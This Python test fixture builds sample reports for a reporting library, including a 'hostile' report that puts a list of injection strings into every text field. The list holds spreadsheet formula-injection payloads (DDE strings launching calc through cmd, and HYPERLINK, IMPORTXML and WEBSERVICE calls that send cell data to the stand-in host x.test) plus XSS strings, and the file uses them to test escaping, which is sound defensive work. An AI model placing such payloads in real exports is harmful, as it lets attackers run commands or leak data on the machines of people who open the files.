"""Reports for the tests: one small and complete, one made of hostile text."""

from datetime import UTC, date, datetime, timedelta
from decimal import Decimal
from typing import Any
from zoneinfo import ZoneInfo

from core.reports import Chart, Column, Figure, Link, Report, Sheet

MADE_AT = datetime(2026, 11, 2, 1, 5, tzinfo=UTC)
SHANGHAI = ZoneInfo("Asia/Shanghai")

#: What spreadsheets calculate, fetch or choke on (ASVS 1.2.10, OWASP CSV injection, reliability.md).
LEADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    " =1+1",
    "   @SUM(1)",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "−1+1",
    '"=1+1',
    "'=1+1",
    '";=1+1',
    "“=1+1”",
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "-cmd|'/C calc'!A0",
    "@cmd|'/C calc'!A0",
    '=DDE("cmd";"/C calc";"x")',
    '=HYPERLINK("http://x.test/?"&A1,"open")',
    '=IMPORTXML("http://x.test","//a")',
    '=WEBSERVICE("http://x.test")',
    "{=1+1}",
    "=1+1\x01\x1f",
    "_x003D_1+1",
    "<r><t>rich</t></r>",
    "<script>alert(1)</script>",
    "<img src=file:///etc/passwd onerror=alert(1)>",
    "http://x.test/",
    "\ud800=1+1\ufffe",
]


def sample(language: str = "en", **changes: Any) -> Report:
    """A month in small: every kind of column, a chart of each kind, figures, definitions."""
    facts: dict[str, Any] = {
        "key": "month",
        "title": "October 2026",
        "made_at": MADE_AT,
        "sheets": [months_sheet(), cases_sheet()],
        "company": "景和物业服务有限公司",
        "site": "翠湖花园",
        "period": "2026-10",
        "language": language,
        "time_zone": SHANGHAI,
        "figures": [
            Figure("Completion", 0.992, note="369 / 372", tone="danger", href="#cases", kind="percent"),
            Figure("Drill score", None, "points"),
        ],
        "definitions": [("Completion", "Done ÷ planned")],
        "base_url": "https://orderly.test",
    }
    return Report(**facts | changes)


def months_sheet() -> Sheet:
    """Three months, the second without data."""
    return Sheet(
        "months",
        "Months",
        [
            Column("month", "Month"),
            Column("rate", "Completion", "percent", help="Done ÷ planned"),
            Column("done", "Done", "integer"),
            Column("late", "Late", "integer"),
        ],
        [
            {"month": "2026-08", "rate": 0.99, "done": 368, "late": 3},
            {"month": "2026-09", "rate": None, "done": None, "late": None},
            {"month": "2026-10", "rate": Decimal("0.9996"), "done": 372, "late": 0},
        ],
        totals={"done": 740},
        charts=[
            Chart("line", "Completion by month", "month", ["rate"], target=(0.98, 1.0)),
            Chart("bar", "Done by month", "month", ["done"], target=370),
            Chart("stacked", "Done and late", "month", ["done", "late"], tones=["ok", "warn"]),
        ],
    )


def cases_sheet() -> Sheet:
    """One case with a value of every kind, and one with nothing."""
    columns = [
        Column("number", "Number", "link"),
        Column("what", "What"),
        Column("state", "State", "badge", tone=lambda row: row["tone"]),
        Column("due", "Due", "datetime"),
        Column("day", "Day", "date"),
        Column("took", "Took", "minutes"),
        Column("change", "Change", "number"),
        Column("share", "Share", "percent"),
        Column("count", "Count", "integer", href=lambda row: "/rows/1/"),
    ]
    full = {
        "number": Link("C-7", "/cases/7/"),
        "what": "周䶮 𬍛珺",
        "state": "Overdue",
        "tone": "danger",
        "due": datetime(2026, 10, 31, 18, 30, tzinfo=UTC),
        "day": date(2026, 10, 31),
        "took": timedelta(hours=4, minutes=10),
        "change": -12.5,
        "share": Decimal("0.125"),
        "count": 1234,
    }
    return Sheet("cases", "Cases", columns, [full, dict.fromkeys(full)])


def hostile(*, streamed: bool = False) -> Report:
    """Every lead in every place of a report that takes text; ``streamed``: rows nobody counted."""
    sheets = [
        Sheet(
            f"s{number}",
            lead,
            [
                Column("text", lead, help=lead),
                Column("text", lead, "badge", tone=lambda row: "warn"),
                Column("link", lead, "link"),
                Column("text", lead, "number"),
                Column("text", lead, "datetime"),
                Column("value", lead, "number"),
            ],
            iter(rows) if streamed else rows,
            note=lead,
            totals={"text": lead},
            charts=[Chart("line", lead, "text", ["value"], target=1.0)],
            empty=lead,
        )
        for number, lead in enumerate(LEADS)
        for rows in [[{"text": lead, "link": Link(lead, f"https://x.test/{number}"), "value": -12.5}]]
    ]
    return sample(
        title=LEADS[0],
        subtitle=LEADS[1],
        company=LEADS[2],
        site=LEADS[3],
        period=LEADS[4],
        footer=LEADS[5],
        sheets=sheets,
        figures=[Figure(lead, lead, lead, lead, "ok") for lead in LEADS],
        definitions=[(lead, lead) for lead in LEADS],
    )
